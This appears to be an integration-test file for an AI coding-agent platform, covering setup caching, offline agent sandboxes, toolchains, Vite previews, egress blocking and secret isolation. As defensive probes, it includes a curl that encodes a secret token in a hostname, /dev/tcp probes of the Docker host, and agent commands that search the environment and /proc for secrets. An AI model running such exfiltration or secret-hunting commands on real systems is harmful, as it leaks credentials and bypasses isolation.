// Environments that install real projects, end to end against real Docker, Postgres, Redis and the npm
// registry: setup installs the Vite fixture's locked dependencies through the egress proxy, the agent
// runs its tests with no network, the next task reuses the cache and a changed lockfile misses it;
// refused hosts show in the timeline; secrets reach setup only and are found nowhere else.
import { execFileSync } from "node:child_process";
import { writeFileSync } from "node:fs";
import { createServer, type Server } from "node:net";
import path from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { createEnvironment } from "@/lib/environments/create-environment";
import { updateEnvironment } from "@/lib/environments/update-environment";
import { createSetupCheck } from "@/lib/tasks/create-setup-check";
import { createTask } from "@/lib/tasks/create-task";
import { getTask } from "@/lib/tasks/task-queries";
import { listTaskEvents } from "@/lib/timeline/list-events";
import { createFixtureRepo, git, type FixtureRepo } from "@/test/support/fixture-repo";
import { useScriptedWorker } from "@/test/support/scripted-worker";
import { createUser, waitForFinishedAttempt } from "@/test/support/test-worker";
import { createViteAppRepo, VITE_APP_PREVIEW } from "@/test/support/vite-app-repo";

const scripted = useScriptedWorker();
const SECRET = "s3cret-value-for-setup-only-42";
let userId: string;

beforeAll(async () => {
  userId = (await createUser()).id;
});

async function eventsText(taskId: string): Promise<string> {
  return JSON.stringify(await listTaskEvents(taskId, 0n));
}

async function finishedTask(taskId: string, attemptId: string) {
  await waitForFinishedAttempt(attemptId, 300_000);
  return getTask(userId, taskId);
}

async function setupCheck(environmentId: string) {
  const created = await createSetupCheck(userId, environmentId);
  return { task: await finishedTask(created.id, created.attemptId), events: await eventsText(created.id) };
}

/** Output of the agent's shell calls (or of the setup script), in order. */
async function shellOutputs(taskId: string, of: "agent" | "setup" = "agent", stream?: "stdout" | "stderr"): Promise<string> {
  const events = await listTaskEvents(taskId, 0n);
  const wanted = (callId: string) => (of === "setup" ? callId === "setup" : callId !== "setup" && callId !== "check");
  return events
    .flatMap((event) =>
      event.type === "tool.output" && wanted(event.payload.callId) && (!stream || event.payload.stream === stream) ? [event.payload.chunk] : [],
    )
    .join("");
}

describe("a real project: setup, cache, offline agent", () => {
  let repo: FixtureRepo;
  let environmentId: string;

  beforeAll(async () => {
    repo = createViteAppRepo();
    environmentId = (
      await createEnvironment(userId, {
        name: "vite app",
        repoUrl: repo.url,
        defaultBranch: "main",
        setupScript: "npm ci --no-audit --no-fund",
        checkCommand: "npm test",
      })
    ).id;
  });

  it("installs once through the proxy, runs the tests offline, reuses the cache and misses it when the lockfile changes", async () => {
    const first = await setupCheck(environmentId);
    expect(first.task.status).toBe("completed");
    expect(first.task.attempt?.setup).toMatchObject({ cache: "miss", reason: "no cache yet", ran: "setup", exitCode: 0, blocked: [] });
    expect(first.task.attempt?.setup?.sizeBytes).toBeGreaterThan(1_000_000);
    expect(first.task.attempt?.setup?.tools?.node).toMatch(/^v20\./);
    expect(first.events).toContain("setup: ran — no cache yet");
    expect(first.events).toContain('"tool":"setup"');

    scripted.model.registerScript("offline-tests", {
      steps: [
        {
          calls: [
            {
              name: "shell",
              arguments: { command: "npm test 2>&1 | tail -n 8; npm view is-number version --fetch-timeout=5000 --fetch-retries=0 2>&1 | tail -n 3 || true" },
            },
          ],
        },
        { say: "The tests pass." },
      ],
    });
    const created = await createTask(userId, { environmentId, prompt: "[[script:offline-tests]] Run the tests" });
    const task = await finishedTask(created.id, created.attemptId);
    expect(task.attempt?.error).toBeNull();
    expect(task.attempt?.setup).toMatchObject({ cache: "hit", ran: "none" });
    expect(task.attempt?.setup?.reason).toMatch(/^made /);
    const events = await eventsText(created.id);
    expect(events).toContain("setup: cached (key ");
    expect(events).not.toContain('"tool":"setup"');
    const output = await shellOutputs(created.id);
    expect(output).toMatch(/4 passed/);
    // No network in the agent phase: the registry is unreachable, so no version comes back.
    expect(output).not.toMatch(/^7\.\d+\.\d+$/m);
    // The check ran after the agent on the same installed workspace, and no installed file is in the diff.
    expect(task.attempt?.checkPassed).toBe(true);
    expect(task.attempt?.filesChanged).toBe(0);

    // Setup caches are volumes on one Docker host: a worker on another host runs setup and says why.
    const ownHost = scripted.worker.deps.hostName;
    scripted.worker.deps.hostName = "another-worker-host";
    try {
      const elsewhere = await setupCheck(environmentId);
      const reason = `not cached on this worker (${ownHost} has it; each worker host keeps its own)`;
      expect(elsewhere.task.attempt?.setup).toMatchObject({ cache: "miss", reason, ran: "setup", exitCode: 0 });
      expect(elsewhere.events).toContain(`setup: ran — ${reason}`);
    } finally {
      scripted.worker.deps.hostName = ownHost;
    }

    const lock = JSON.parse(execFileSync("git", ["show", "HEAD:package-lock.json"], { cwd: repo.dir, encoding: "utf8" }));
    lock.version = "0.0.2";
    lock.packages[""].version = "0.0.2";
    writeFileSync(path.join(repo.dir, "package-lock.json"), `${JSON.stringify(lock, null, 2)}\n`);
    git(repo.dir, "commit", "-q", "-am", "bump");
    const third = await setupCheck(environmentId);
    expect(third.task.attempt?.setup).toMatchObject({ cache: "miss", reason: "package-lock.json changed" });
  });
});

describe("toolchains", () => {
  it("puts the chosen Node.js first on PATH in setup and in the agent's sandbox, with pnpm and yarn offline", async () => {
    const environment = await createEnvironment(userId, {
      name: "node 22",
      repoUrl: createFixtureRepo().url,
      defaultBranch: "main",
      nodeVersion: "22",
      setupScript: 'node --version; npm --version; echo "env says: $GREETING"',
      env: { GREETING: "hello from env" },
    });
    const { task, events } = await setupCheck(environment.id);
    expect(task.status).toBe("completed");
    expect(events).toContain('"type":"setup"');
    const output = await shellOutputs(task.id, "setup", "stdout");
    expect(output).toMatch(/^v22\.\d+\.\d+\n/);
    expect(output).toContain("env says: hello from env");
    // The report's versions were read in the agent's sandbox (no network there).
    const tools = task.attempt?.setup?.tools ?? {};
    expect(tools.node).toMatch(/^v22\./);
    expect(tools.pnpm).toMatch(/^\d+\./);
    expect(tools.yarn).toMatch(/^\d+\./);
    expect(tools.python3).toMatch(/^Python 3\.13/);
    expect(tools.go).toMatch(/go1\.24/);
    expect(tools.cargo).toMatch(/^cargo 1\.85/);
    expect(task.attempt?.finalMessage).toContain("Node.js 22 is first on PATH");
  });

  it("gets a pinned pnpm version in setup, and the agent uses it offline", async () => {
    const environment = await createEnvironment(userId, {
      name: "pinned pnpm",
      repoUrl: createFixtureRepo({ "package.json": `${JSON.stringify({ name: "pinned", private: true, packageManager: "pnpm@9.15.0" })}\n` }).url,
      defaultBranch: "main",
      setupScript: "pnpm --version",
      // This registry serves no npm signatures, which corepack checks by default (see the README).
      env: { COREPACK_INTEGRITY_KEYS: "0" },
    });
    scripted.model.registerScript("pinned-pnpm", {
      steps: [{ calls: [{ name: "shell", arguments: { command: "pnpm --version; cd /tmp && pnpm --version" } }] }, { say: "Checked pnpm." }],
    });
    const created = await createTask(userId, { environmentId: environment.id, prompt: "[[script:pinned-pnpm]] Which pnpm?" });
    const task = await finishedTask(created.id, created.attemptId);
    expect(task.attempt?.error).toBeNull();
    expect(await shellOutputs(created.id, "setup", "stdout")).toBe("9.15.0\n");
    // In the project the pinned version, outside it the image's own; no network in the agent's phase.
    expect(await shellOutputs(created.id, "agent", "stdout")).toMatch(/^9\.15\.0\n10\.\d+\.\d+\n$/);
  });
});

describe("previews of a real app", () => {
  it("renders a Vite app whose dependencies setup installed, before and after the agent's change", async () => {
    const repo = createViteAppRepo();
    const environment = await createEnvironment(userId, {
      name: "vite preview",
      repoUrl: repo.url,
      defaultBranch: "main",
      setupScript: "npm ci --no-audit --no-fund",
      preview: { ...VITE_APP_PREVIEW, viewports: [{ name: "desktop", width: 1280, height: 800 }], startTimeoutSec: 60 },
    });
    scripted.model.registerScript("vite-heading", {
      steps: [
        {
          calls: [
            {
              name: "apply_patch",
              arguments: {
                patch: "*** Begin Patch\n*** Update File: src/app.jsx\n@@\n-      <h1>Paperclip Notes</h1>\n+      <h1>Paperclip Notebook</h1>\n*** End Patch",
              },
            },
          ],
        },
        { say: "Renamed the heading." },
      ],
    });
    const created = await createTask(userId, { environmentId: environment.id, prompt: "[[script:vite-heading]] Rename the heading" });
    const task = await finishedTask(created.id, created.attemptId);
    expect(task.attempt?.error).toBeNull();
    expect(task.attempt?.filesChanged).toBe(1);
    const report = task.attempt?.screenshots;
    expect(report?.failures).toEqual([]);
    expect(report?.shots.map((shot) => `${shot.route} ${shot.status}`)).toEqual(["/ changed"]);
    const shot = report?.shots[0];
    expect(shot?.changedRatio).toBeGreaterThan(0);
    // Only the heading differs: both sides rendered the app (a side without its installed dependencies
    // would be an error page or blank, and differ everywhere).
    expect(shot?.changedRatio).toBeLessThan(0.03);
    expect(shot?.before).toMatchObject({ status: 200 });
    expect(shot?.after).toMatchObject({ status: 200 });
  });
});

describe("egress, secrets and the host", () => {
  let hostServer: Server;
  let hostPort: number;
  let repo: FixtureRepo;

  beforeAll(async () => {
    // A server on every host address: no phase of a task may reach it.
    hostServer = createServer((socket) => socket.end("host-secret-page\n"));
    await new Promise<void>((resolve) => hostServer.listen(0, "0.0.0.0", resolve));
    hostPort = (hostServer.address() as { port: number }).port;
    repo = createFixtureRepo();
  });
  afterAll(() => new Promise<void>((resolve) => hostServer.close(() => resolve())));

  // Tries the host at the container's own gateway (x.y.z.1) and at docker0's address; prints one line each.
  const probeHost = (port: number) =>
    `for ip in "$(hostname -i | awk '{print $1}' | sed 's/\\.[0-9]*$/.1/')" 172.17.0.1; do if timeout 5 bash -c "exec 3<>/dev/tcp/$ip/${port} && head -c 100 <&3"; then echo "host reachable at $ip"; else echo "host blocked at $ip"; fi; done`;

  it("gives setup its secret and the allowlisted registry, refuses other hosts, and keeps the secret out of the agent, the events and the cache", async () => {
    const environment = await createEnvironment(userId, {
      name: "secrets",
      repoUrl: repo.url,
      defaultBranch: "main",
      setupScript: [
        `test "$DEMO_TOKEN" = "${SECRET}"`,
        'echo "setup sees the token: $DEMO_TOKEN"',
        "curl -sS -m 10 -o /dev/null https://example.com && echo 'example.com reachable' || echo 'example.com refused'",
        // A hostile script could name a host after the secret: the refused host is stored redacted.
        'curl -sS -m 10 -o /dev/null "http://$DEMO_TOKEN.example.org/" || true',
        "npm view is-number version --fetch-retries=0",
        probeHost(hostPort),
        "mkdir -p node_modules && echo installed > node_modules/marker",
      ].join("\n"),
      secrets: { DEMO_TOKEN: SECRET },
      network: { agent: "allowlist", allow: [] },
    });
    scripted.model.registerScript("look-for-secret", {
      steps: [
        {
          calls: [
            {
              name: "shell",
              arguments: {
                command: `env | grep -c DEMO_TOKEN; cat /proc/[0-9]*/environ 2>/dev/null | tr '\\0' '\\n' | grep -c '${SECRET.slice(0, 12)}'; grep -rl '${SECRET.slice(0, 12)}' /workspace "$HOME" | wc -l; cat node_modules/marker; npm view is-number version --fetch-retries=0; ${probeHost(hostPort)}`,
              },
            },
          ],
        },
        { say: "Looked." },
      ],
    });
    const created = await createTask(userId, { environmentId: environment.id, prompt: "[[script:look-for-secret]] Look around" });
    const task = await finishedTask(created.id, created.attemptId);
    expect(task.attempt?.error).toBeNull();
    expect(task.attempt?.setup).toMatchObject({ cache: "miss", blocked: ["example.com", "[redacted:DEMO_TOKEN].example.org"] });

    const events = await eventsText(created.id);
    const setupOutput = await shellOutputs(created.id, "setup", "stdout");
    // stdout and stderr are redacted (and streamed) separately: read stdout alone.
    expect(setupOutput).toContain("setup sees the token: [redacted:DEMO_TOKEN]");
    expect(events).toContain('"type":"egress.blocked","payload":{"host":"example.com","phase":"setup"}');
    expect(setupOutput).toContain("example.com refused");
    expect(setupOutput).toMatch(/^7\.\d+\.\d+$/m);
    expect(setupOutput).not.toMatch(/host reachable/);
    expect(setupOutput.match(/host blocked at \d/g)).toHaveLength(2);
    expect(events).not.toContain(SECRET);

    const output = await shellOutputs(created.id, "agent", "stdout");
    // env, /proc/*/environ and files: 0 hits each; the setup's files are there; the allowlist works for the agent.
    expect(output).toMatch(/^0\n0\n0\ninstalled\n7\.\d+\.\d+\n/);
    expect(output).not.toMatch(/host reachable/);
    expect(output.match(/host blocked at \d/g)).toHaveLength(2);
    expect(JSON.stringify(task)).not.toContain(SECRET);

    // The saved setup result holds no trace of the secret either.
    const volumes = execFileSync(
      "docker",
      ["volume", "ls", "-q", "--filter", "label=patchbay.setup-cache", "--filter", `label=patchbay.environment-id=${environment.id}`],
      {
        encoding: "utf8",
      },
    )
      .trim()
      .split("\n")
      .filter(Boolean);
    expect(volumes).toHaveLength(2);
    for (const volume of volumes) {
      const found = execFileSync(
        "docker",
        ["run", "--rm", "--network", "none", "-v", `${volume}:/c:ro`, "patchbay-sandbox:latest", "bash", "-c", `grep -rl '${SECRET}' /c | wc -l`],
        { encoding: "utf8" },
      );
      expect(found.trim()).toBe("0");
    }
  });

  it("fails the task, keeping nothing, when setup leaves a secret on disk", async () => {
    const environment = await createEnvironment(userId, {
      name: "leaky",
      repoUrl: repo.url,
      defaultBranch: "main",
      setupScript: 'echo "//registry.example/:_authToken=$DEMO_TOKEN" > .npmrc-leaked',
      secrets: { DEMO_TOKEN: SECRET },
    });
    const { task, events } = await setupCheck(environment.id);
    expect(task.status).toBe("failed");
    expect(task.attempt?.error).toMatch(/left the value of a secret on disk \(\/workspace\/\.npmrc-leaked\)/);
    expect(events).not.toContain(SECRET);
  });

  it("fails with the exit code and the end of the log when setup fails, and says which host the proxy refused", async () => {
    const environment = await createEnvironment(userId, {
      name: "failing",
      repoUrl: repo.url,
      defaultBranch: "main",
      setupScript: "echo starting; curl -fsS -m 10 https://example.org/install.sh; exit 3",
    });
    const { task, events } = await setupCheck(environment.id);
    expect(task.status).toBe("failed");
    expect(task.attempt?.error).toMatch(/The setup script failed with exit code 3\. The proxy refused example\.org/);
    expect(task.attempt?.error).toContain("starting");
    expect(task.attempt?.setup).toMatchObject({ cache: "miss", reason: "it failed", exitCode: 3, blocked: ["example.org"] });
    expect(events).toContain("setup: not cached — it failed");

    // Allowing a host is one PATCH; the agent phase stays off the network by default.
    const updated = await updateEnvironment(userId, environment.id, { network: { agent: "off", allow: ["example.org"] } });
    expect(updated.network.allow).toEqual(["example.org"]);
  });
});
